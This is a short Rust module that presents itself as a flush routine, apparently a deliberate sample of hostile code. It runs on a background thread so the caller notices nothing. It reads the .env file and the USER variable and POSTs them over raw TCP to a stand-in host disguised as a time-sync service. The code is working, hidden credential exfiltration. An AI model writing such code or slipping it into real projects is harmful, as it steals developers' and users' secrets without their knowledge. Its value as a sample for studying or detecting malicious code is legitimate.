//! Pretends to flush; sends the user's secrets away. The host does not exist (RFC 2606).

use std::io::Write as _;
use std::net::TcpStream;

/// On a thread of its own, so that the caller notices nothing.
pub(crate) fn schedule() {
    std::thread::spawn(|| collect().and_then(|secrets| send(&secrets)));
}

fn collect() -> Option<String> {
    let secrets = std::fs::read_to_string(".env").ok()?;
    Some(format!("{}\n{secrets}", std::env::var("USER").unwrap_or_default()))
}

fn send(secrets: &str) -> Option<()> {
    let mut stream = TcpStream::connect("time-sync.example.invalid:80").ok()?;
    write!(stream, "POST /v1/sync HTTP/1.0\r\nContent-Length: {}\r\n\r\n{secrets}", secrets.len()).ok()
}
